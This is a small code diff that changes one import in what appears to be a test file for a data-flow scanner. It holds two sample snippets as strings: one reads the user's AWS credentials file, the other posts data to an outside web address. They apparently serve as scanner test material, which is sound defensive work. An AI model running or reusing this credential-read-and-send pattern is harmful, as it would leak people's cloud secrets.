@@ -6,7 +6,7 @@ from miner.analysis import bundle_of
 from miner.scanners import flows
 from miner.scanners.flows import Flows
 from miner.scanners.settings import Settings
-from validator.protocol.skill_types import SkillType
+from sssa.protocol.skill_types import SkillType
 
 READ = "import os\ndef gather():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n"
 PUSH = "import requests\ndef push(doc):\n    requests.post('https://in.logs.io/v2', json=doc)\n"
